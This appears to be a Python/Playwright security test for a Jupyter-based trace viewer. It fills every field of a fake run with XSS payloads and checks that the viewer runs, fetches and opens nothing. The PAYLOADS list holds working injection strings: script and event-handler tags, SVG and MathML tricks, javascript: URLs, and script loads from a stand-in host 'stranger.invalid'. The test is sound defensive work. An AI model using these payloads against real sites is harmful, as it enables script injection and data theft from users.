"""A run in which every text that a stranger can choose is an attack, and how to tell that none of them came to life."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from playwright.sync_api import Dialog, Locator, Page
from trace_examples import SYSTEM, Story

from rlm_kernel.trace import (
    ContextCard,
    Divergence,
    ErrorInfo,
    Origin,
    RichOutput,
    Site,
    Trace,
    Variable,
    VariableChanges,
)

FIRE = "window.__pwned = 1"
# Each would set `__pwned`, ask somebody for something whose name has `pwned` in it, open a window or a dialog.
PAYLOADS = (
    # HTML that runs
    f"<script>{FIRE}</script>",
    "<script src='//stranger.invalid/pwned.js'></script><script src=pwned.js></script>",
    f"<img src=pwned.png onerror='{FIRE}'>",
    f"<svg onload='{FIRE}'><script>{FIRE}</script></svg>",
    f"<svg><animate onbegin='{FIRE}' attributeName=x></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=\"{FIRE}\"/>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=pwned.png onerror='{FIRE}'></style></mglyph></table></mtext></math>",
    f"<iframe srcdoc='<script>parent.__pwned = 1</script>'></iframe><iframe src='javascript:{FIRE}'></iframe>",
    f"<object data='data:text/html,<script>{FIRE}</script>'></object><embed src='//stranger.invalid/pwned.swf'>",
    f"<details open ontoggle='{FIRE}'><summary>x</summary></details>",
    f"<input autofocus onfocus='{FIRE}'><textarea autofocus onfocus='{FIRE}'></textarea>",
    f"<video src=pwned.mp4 onerror='{FIRE}'></video><audio src=pwned.mp3 onerror='{FIRE}'></audio>",
    f"<body onload='{FIRE}' onpageshow='{FIRE}'><marquee onstart='{FIRE}'>x</marquee>",
    f"<style>@keyframes x {{}} p {{animation: x}}</style><p style='animation: x' onanimationstart='{FIRE}'>x</p>",
    f"<form action='javascript:{FIRE}'><button autofocus onfocus='{FIRE}' formaction='javascript:{FIRE}'>go</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{FIRE}'><base href='http://stranger.invalid/pwned/'>",
    f"<a href='javascript:{FIRE}' onmouseover='{FIRE}'>look</a><a href=' java&#x0a;script:{FIRE}'>look</a>",
    f"<template><script>{FIRE}</script></template><p is=x onclick='{FIRE}'>x</p>",
    # Out of the place where the text stands
    f"</script><script>{FIRE}</script>",
    f"</pre></code></details></td></table></textarea></title></style></noscript><script>{FIRE}</script>",
    f"--><script>{FIRE}</script><!--",
    f"]]><script>{FIRE}</script><![CDATA[",
    f"\" autofocus onfocus=\"{FIRE}\" x=\"' onmouseover='{FIRE}' x='",
    f"<noscript><p title=\"</noscript><img src=pwned.png onerror='{FIRE}'>\">",
    f"<plaintext><xmp><listing></xmp><script>{FIRE}</script>",
    f"&lt;script&gt;{FIRE}&lt;/script&gt; &#60;script&#62;{FIRE}&#60;/script&#62; \\u003cscript\\u003e{FIRE}\\u003c/script\\u003e",
    f"`;{FIRE};` ${{{FIRE}}} {{{{constructor.constructor('{FIRE}')()}}}} <%= {FIRE} %>",
    # What only fetches
    "<img src='http://stranger.invalid/pwned.png' srcset='http://stranger.invalid/pwned2.png 2x'>",
    "<link rel=stylesheet href='http://stranger.invalid/pwned.css'><link rel=preload as=image href=pwned.png>",
    "<style>@import 'http://stranger.invalid/pwned.css'; * {background: url(http://stranger.invalid/pwned.png)}</style>",
    "<p style='background: url(http://stranger.invalid/pwned.png); list-style: url(pwned.png)'>x</p>",
    "<table background='http://stranger.invalid/pwned.png'><td background=pwned.png></table>",
    "<picture><source srcset=pwned.webp></picture><input type=image src=pwned.png>",
    # Markdown and mathematics
    "![x](http://stranger.invalid/pwned.png) ![x](pwned.png) [![x](pwned.png)](pwned)",
    f"[look](javascript:{FIRE}) <javascript:{FIRE}> [look][pwned]\n\n[pwned]: javascript:{FIRE}",
    f"```\n</code></pre><script>{FIRE}</script>\n```\n\n    <script>{FIRE}</script>\n\n# <img src=pwned.png>",
    f'$$\\href{{javascript:{FIRE}}}{{look}} \\includegraphics{{pwned.png}} \\class{{x" onload="{FIRE}}}{{y}}$$',
    f"http://stranger.invalid/pwned javascript:{FIRE} file:///pwned [link=http://stranger.invalid/pwned]look[/link]",
    # Terminals, and what hides
    f"\x1b]8;;javascript:{FIRE}\x07look\x1b]8;;\x07 \x1b]52;c;cHduZWQ=\x07 \x1b[2J\x1b[31mred\x1b[0m \x9b31m\x00\x07\x08",
    "abc\u202egnp.exe \u200b\u2066hidden\u2069 \U000e0041 lone \ud800 surrogate \u2028 line",
    '__proto__ constructor prototype toString \\" \\n \\ud83d',
)
ALL = "\n".join(PAYLOADS)


def hostile_run(run_id: str = "papers-1", *, last: str = ALL) -> Trace:
    """A run with a turn and a sub-call for each payload, which is in every text of theirs; all of them are in the texts
    of the run."""
    origin = Origin(
        kind="fork", run=ALL, at=ALL, edit={ALL: ALL, "hint": ALL, "model": ALL, "limits": {ALL: ALL}}
    )
    card = ContextCard(name=ALL, type=ALL, schema=ALL, preview=ALL, hash=ALL, length=3, chars=5)
    settings = {ALL: ALL, "model": ALL, "sub_model": ALL, "answered_by": {"model": ALL, "sub_model": ALL}}
    story = Story(ALL, context=card, settings=settings, run_id=run_id, origin=origin)
    story.root()
    for turn, bad in enumerate(PAYLOADS, 1):
        _turn(story, turn, bad)
    error = ErrorInfo(type=last, message=last, traceback=last)
    story.finish("0", "failed", answer=last, error=error, how=last)
    trace = story.end("failed", answer=last, error=error)
    trace.warning = ALL
    return trace


def _turn(story: Story, turn: int, bad: str) -> None:
    story.ask("0", turn, *([SYSTEM, bad] if turn == 1 else [bad]), last=bad)
    story.reply("0", turn, f"{bad}\n```repl\n{bad}\n```", reasoning=bad, model=bad, finish_reason=bad)
    call = f"0.{turn}.1"
    story.llm(call, bad, site=Site(block=1, line=1, code=bad, lane=bad))
    error = ErrorInfo(type=bad, message=bad, traceback=bad)
    if turn % 2:
        story.reply(call, 1, bad, model=bad, reasoning=bad, finish_reason=bad, request_hash=bad)
        story.finish(call, how=bad)
    else:
        story.reply(call, 1, "", model=bad, error=error)
        story.finish(call, "failed", error=error)
    variable = Variable(name=bad, type=bad, size=bad, preview=bad)
    story.code(
        "0",
        turn,
        bad,
        stdout=bad,
        stderr=bad,
        shown=bad,
        error=error,
        variables=VariableChanges(added=(variable,), changed=(variable,), removed=(bad,)),
        outputs=tuple(RichOutput(data={kind: bad}) for kind in _KINDS),
        divergences=tuple(Divergence(what=what, recorded=bad, found=bad) for what in _WHATS),
    )


_KINDS = (
    "text/html",
    "text/markdown",
    "text/latex",
    "text/plain",
    "image/svg+xml",
    "image/png",
    "application/javascript",
    "application/vnd.rlm.table+json",
    "application/vnd.jupyter.widget-view+json",
    f'image/png" onerror="{FIRE}',
)
_WHATS: tuple[Any, ...] = ("code", "error", "output", "variables")

_ALIVE = """(roots, jupyter) => roots.flatMap(root => {
  const bad = [];
  const never = 'script, iframe, frame, object, embed, link, meta, base, form, video, audio, source, picture,'
    + ' marquee, template, style, noscript, plaintext, xmp, use, animate, foreignObject, input[type=image]';
  // Jupyter makes links and formulas of what looks like one in any text, to look at: none that runs anything.
  const own = jupyter ? '' : ', math, a, svg';
  for (const each of root.querySelectorAll(never + own)) bad.push(each.outerHTML.slice(0, 200));
  for (const each of root.querySelectorAll('*')) {
    for (const {name, value} of each.attributes) {
      const url = ['href', 'src', 'srcset', 'action', 'formaction', 'data', 'background', 'xlink:href'].includes(name);
      const data = /^data:image\\/(png|jpeg);base64,[A-Za-z0-9+/=]*$/.test(value);
      if (/^on/i.test(name) || /url\\(|animation/i.test(name === 'style' ? value : '')
          || (url && !data && !(each.tagName === 'A' && !/^[^a-z]*(javascript|vbscript)/i.test(value)))) {
        bad.push(`${each.tagName} ${name}=${value.slice(0, 100)}`);
      }
    }
  }
  return bad;
})"""


class Watch:
    """What a page did since it was made: what it asked for, and what it opened."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.asked: list[str] = []
        self.opened: list[str] = []
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("dialog", self._dialog)
        page.on("popup", lambda other: self.opened.append(other.url))

    def _dialog(self, dialog: Dialog) -> None:
        if dialog.type == "beforeunload":  # of a page that is left on purpose
            dialog.accept()
            return
        self.opened.append(dialog.message)
        dialog.dismiss()

    def check(self, root: Locator, *, jupyter: bool = False) -> None:
        """Nothing ran, nothing was fetched or opened, and there is nothing below the root that could; `jupyter` says
        that Jupyter itself draws there."""
        fired = [
            frame.url for frame in self.page.frames if frame.evaluate("() => window.__pwned !== undefined")
        ]
        polluted = self.page.evaluate("() => Object.prototype.polluted !== undefined")
        alive = root.evaluate_all(_ALIVE, jupyter)
        fetched = [url for url in self.asked if "pwned" in url or "stranger" in url]
        found = {
            "fired": fired,
            "polluted": polluted,
            "alive": alive,
            "fetched": fetched,
            "opened": self.opened,
        }
        assert not any(found.values()), found


def everywhere(view: Locator, *, every: int = 1) -> Iterator[Locator]:
    """Goes to the rows of the run, after a look at every lens, and to each tab of the detail of one in so many."""
    page = view.page
    page.on("pageerror", lambda error: _fail(str(error)))
    for lens in ("Timeline", "Table", "Tree"):
        view.get_by_role("tab", name=lens).click()
    view.locator(".rlm-row[data-key]").first.click()
    selected, detail = view.locator(".rlm-tree .rlm-row[aria-selected=true]"), view.locator(".rlm-detail")
    key, before, row = selected.get_attribute("data-key"), None, 0
    while key != before:
        tabs = detail.locator("[role=tab]:not([hidden])")
        for number in range(tabs.count() if row % every == 0 else 0):
            tabs.nth(number).click()
            yield detail
        view.locator(".rlm-tree").focus()
        page.keyboard.press("ArrowRight")
        page.keyboard.press("ArrowDown")
        page.wait_for_timeout(20)
        key, before, row = selected.get_attribute("data-key"), key, row + 1


def _fail(said: str) -> None:
    raise AssertionError(said)
